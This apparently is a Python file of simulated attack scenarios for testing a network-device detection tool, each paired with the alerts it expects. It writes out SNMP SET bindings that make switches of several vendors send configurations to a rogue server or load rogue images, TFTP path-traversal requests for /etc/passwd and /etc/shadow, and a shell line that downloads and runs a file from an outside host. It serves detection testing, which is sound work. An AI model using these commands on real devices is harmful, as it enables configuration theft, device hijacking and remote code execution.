"""The other way round: directions, columns, spellings and stages that the first scenarios of a detection leave out."""

from __future__ import annotations

from ipaddress import IPv4Address

from bootwarden.scenarios.model import Alert, Expect, Notice, scenario
from bootwarden.scenarios.sites import ATTACKER, BOOT_SERVER, DEVICE, HQ, IMAGE, OUTSIDE, ROGUE
from bootwarden.traffic import images, snmp, tftp
from bootwarden.traffic.telnet import Telnet
from bootwarden.traffic.wire import Wire

SENDS: dict[str, list[snmp.Binding]] = {
    "10.0.1.11": snmp.row(
        "1.3.6.1.4.1.2011.6.10.1.2.4.1", 3, {2: 3, 3: 2, 4: "stolen.cfg", 5: IPv4Address(ROGUE), 9: 4}
    ),
    "10.0.1.13": snmp.row(
        "1.3.6.1.4.1.89.87.2.1", 1, {3: 1, 7: 3, 8: 3, 9: IPv4Address(ROGUE), 11: "stolen.txt", 12: 1, 17: 4}
    ),
    "10.0.1.14": [
        ("1.3.6.1.4.1.1991.1.1.2.1.5.0", IPv4Address(ROGUE)),
        ("1.3.6.1.4.1.1991.1.1.2.1.8.0", "stolen.cfg"),
        ("1.3.6.1.4.1.1991.1.1.2.1.9.0", 22),
    ],
}


@scenario(
    "BW03",
    "malicious",
    plain=Expect(
        alerts=(
            Alert(1542005034, "10.0.6.6", "10.0.1.14"),
            Alert(1542005036, "10.0.6.6", "10.0.1.11"),
            Alert(1542005038, "10.0.6.6", "10.0.1.13"),
        )
    ),
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Config_Copy", "10.0.1.11", "10.0.6.66", "stolen.cfg"),
            Notice("SNMP_Config_Copy", "10.0.1.13", "10.0.6.66", "stolen.txt"),
            Notice("SNMP_Config_Copy", "10.0.1.14", "10.0.6.66", "stolen.cfg"),
        ),
        alerts=(
            Alert(1542103004, "10.0.6.6", "10.0.1.14"),
            Alert(1542103006, "10.0.6.6", "10.0.1.11"),
            Alert(1542103008, "10.0.6.6", "10.0.1.13"),
        ),
    ),
)
def bw03_other_vendors_send(wire: Wire) -> None:
    """Huawei, Radlan and Foundry devices are each told to send their configuration to a rogue server."""
    for device, bindings in SENDS.items():
        snmp.Manager(wire, ATTACKER, device).set(*bindings)


@scenario(
    "BW04",
    "malicious",
    plain=Expect(
        alerts=(
            Alert(1542005047, "10.0.6.6", "10.0.1.17"),
            Alert(1542005049, "10.0.6.6", "10.0.1.7"),
        )
    ),
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Image_Copy", "10.0.1.17", None, "KB_evil.swi"),
            Notice("SNMP_Image_Copy", "10.0.1.7", "10.0.6.66", "evil.tar"),
        ),
        alerts=(
            Alert(1542104007, "10.0.6.6", "10.0.1.17"),
            Alert(1542104009, "10.0.6.6", "10.0.1.7"),
        ),
    ),
)
def bw04_hpe_and_director(wire: Wire) -> None:
    """An HPE switch is given an image to download, and a Smart Install director the URL of an image."""
    table = "1.3.6.1.4.1.11.2.14.11.1.3.1.1"
    rows = snmp.row(table, 1, {6: "KB_evil.swi", 10: 4})
    snmp.Manager(wire, ATTACKER, "10.0.1.17").set(*rows)
    url = f"tftp://{ROGUE}/evil.tar"
    snmp.Manager(wire, ATTACKER, "10.0.1.7").set(("1.3.6.1.4.1.9.9.725.1.2.1.0", url))


@scenario(
    "BW05",
    "malicious",
    plain=Expect(alerts=(Alert(1542005055, "10.0.6.6", "10.0.1.1"),)),
    site=HQ,
    with_site=Expect(
        notices=(Notice("Remote_Reload", "10.0.1.1"),), alerts=(Alert(1542105005, "10.0.6.6", "10.0.1.1"),)
    ),
)
def bw05_allowed_by_telnet(wire: Wire) -> None:
    """A router is told by telnet to obey when SNMP orders a reload."""
    session = Telnet(wire, ATTACKER, DEVICE)
    session.login()
    session.typed("snmp-server system-shutdown")
    session.close()


@scenario(
    "BW11",
    "malicious",
    plain=Expect(
        notices=(
            Notice("External_Boot_Server", "10.0.1.1", "45.83.20.10", "dump"),
            Notice("External_Boot_Server", "10.0.1.2", "45.83.20.10", "lab7"),
            Notice("External_Boot_Server", "10.0.1.3", "45.83.20.10", "isr4300-universalk9.17.03.05.SPA.bin"),
        ),
        alerts=(
            Alert(1542005111, "10.0.1.1", "45.83.20.10"),
            Alert(1542005112, "45.83.20.10", "10.0.1.2"),
            Alert(1542005114, "45.83.20.10", "10.0.1.3"),
            Alert(1542005150, "10.0.1.1", "45.83.20.10"),
        ),
    ),
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("External_Boot_Server", "10.0.1.1", "45.83.20.10", "dump"),
            Notice("Image_Upload", "10.0.1.1", "45.83.20.10", "dump"),
            Notice("Unauthorized_Boot_Server", "10.0.1.2", "45.83.20.10", "lab7"),
            Notice("External_Boot_Server", "10.0.1.2", "45.83.20.10", "lab7"),
            Notice("Unauthorized_Boot_Server", "10.0.1.3", "45.83.20.10", "isr4300-universalk9.17.03.05.SPA.bin"),
            Notice("External_Boot_Server", "10.0.1.3", "45.83.20.10", "isr4300-universalk9.17.03.05.SPA.bin"),
            Notice("Unapproved_Image", "10.0.1.3", "45.83.20.10", "isr4300-universalk9.17.03.05.SPA.bin"),
        ),
        alerts=(
            Alert(1542110001, "45.83.20.10", "10.0.1.2"),
            Alert(1542110002, "45.83.20.10", "10.0.1.3"),
            Alert(1542111001, "10.0.1.1", "45.83.20.10"),
            Alert(1542111002, "45.83.20.10", "10.0.1.2"),
            Alert(1542111004, "45.83.20.10", "10.0.1.3"),
            Alert(1542115000, "10.0.1.1", "45.83.20.10"),
        ),
    ),
)
def bw11_other_ways(wire: Wire) -> None:
    """An image leaves, a configuration comes in, and a file comes in that is an image by name only."""
    tftp.write(wire, DEVICE, OUTSIDE, "dump", images.mzip(), client_port=50001)
    tftp.read(wire, "10.0.1.2", OUTSIDE, "lab7", images.config("lab7"), client_port=50002)
    packed = images.filler(3000, "package")
    tftp.read(wire, "10.0.1.3", OUTSIDE, "isr4300-universalk9.17.03.05.SPA.bin", packed, client_port=50003)


@scenario(
    "BW17",
    "malicious",
    plain=Expect(
        notices=(
            Notice(
                "TFTP_Path_Traversal", "10.0.6.6", "10.0.0.5", "\\xc0\\xae\\xc0\\xae/\\xc0\\xae\\xc0\\xae/etc/passwd"
            ),
            Notice("TFTP_Path_Traversal", "10.0.6.6", "10.0.0.5", "/etc/shadow"),
        ),
        alerts=(
            Alert(1542005172, "10.0.6.6", "10.0.0.5"),
            Alert(1542005175, "10.0.6.6", "10.0.0.5"),
        ),
    ),
    site=HQ,
    with_site=Expect(
        notices=(
            Notice(
                "TFTP_Path_Traversal", "10.0.6.6", "10.0.0.5", "\\xc0\\xae\\xc0\\xae/\\xc0\\xae\\xc0\\xae/etc/passwd"
            ),
            Notice("TFTP_Path_Traversal", "10.0.6.6", "10.0.0.5", "/etc/shadow"),
        ),
        alerts=(
            Alert(1542117002, "10.0.6.6", "10.0.0.5"),
            Alert(1542117005, "10.0.6.6", "10.0.0.5"),
        ),
    ),
)
def bw17_overlong_and_netascii(wire: Wire) -> None:
    """The dots themselves are overlong UTF-8; and a system file is asked for in netascii."""
    tftp.refused(wire, ATTACKER, BOOT_SERVER, b"\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/etc/passwd", client_port=40001)
    tftp.refused(wire, ATTACKER, BOOT_SERVER, "/etc/shadow", mode="netascii", client_port=40002)


@scenario(
    "BW23",
    "malicious",
    plain=Expect(
        notices=(Notice("Disguised_Image", "10.0.1.1", "10.0.0.5", "c2900-universalk9-mz.SPA.157-3.M8.bin"),),
        alerts=(Alert(1542005233, "10.0.1.1", "10.0.0.5"),),
    ),
    site=HQ,
    with_site=Expect(
        notices=(Notice("Disguised_Image", "10.0.1.1", "10.0.0.5", "c2900-universalk9-mz.SPA.157-3.M8.bin"),),
        alerts=(Alert(1542123003, "10.0.1.1", "10.0.0.5"),),
    ),
)
def bw23_script_is_put_on_the_server(wire: Wire) -> None:
    """A shell script is written to the boot server under the name of the approved image."""
    script = b"#!/bin/sh\nwget -O /tmp/x http://45.83.20.10/x && chmod +x /tmp/x && /tmp/x &\n" * 4
    tftp.write(wire, DEVICE, BOOT_SERVER, IMAGE, script)


@scenario(
    "BW30",
    "malicious",
    plain=Expect(
        alerts=(
            Alert(1542005042, "10.0.6.6", "10.0.1.14"),
            Alert(1542005042, "10.0.6.6", "10.0.1.15"),
            Alert(1542005051, "10.0.6.6", "10.0.1.14"),
            Alert(1542005053, "10.0.6.6", "10.0.1.15"),
            Alert(1542005301, "10.0.6.6", "10.0.1.14"),
            Alert(1542005302, "10.0.6.6", "10.0.1.15"),
        )
    ),
    site=HQ,
    with_site=Expect(
        notices=(
            Notice("SNMP_Image_Copy", "10.0.1.14", "10.0.6.66", "evil.bin"),
            Notice("SNMP_Image_Copy", "10.0.1.15", "10.0.6.66", "evil.bin"),
            Notice("Remote_Reload", "10.0.1.14"),
            Notice("Netboot_Hijack", "10.0.1.14"),
            Notice("Remote_Reload", "10.0.1.15"),
            Notice("Netboot_Hijack", "10.0.1.15"),
        ),
        alerts=(
            Alert(1542104002, "10.0.6.6", "10.0.1.14"),
            Alert(1542104002, "10.0.6.6", "10.0.1.15"),
            Alert(1542105001, "10.0.6.6", "10.0.1.14"),
            Alert(1542105003, "10.0.6.6", "10.0.1.15"),
            Alert(1542130001, "10.0.6.6", "10.0.1.14"),
            Alert(1542130002, "10.0.6.6", "10.0.1.15"),
        ),
    ),
)
def bw30_reload_last(wire: Wire) -> None:
    """Two devices are redirected by SNMP; an hour later one is reloaded by SNMP, the other by telnet."""
    columns = {2: 3, 3: IPv4Address(ROGUE), 4: "evil.bin", 5: 4}
    for device in ("10.0.1.14", "10.0.1.15"):
        snmp.Manager(wire, ATTACKER, device).set(*snmp.row("1.3.6.1.4.1.1991.1.1.2.4.1.1", 1, columns))
    wire.wait(3600)
    snmp.Manager(wire, ATTACKER, "10.0.1.14").set(("1.3.6.1.4.1.1991.1.1.2.1.3.0", 3))
    session = Telnet(wire, ATTACKER, "10.0.1.15")
    session.login()
    session.typed("reload", "Are you sure?", prompt="")
    session.typed("y", "")
    session.close()
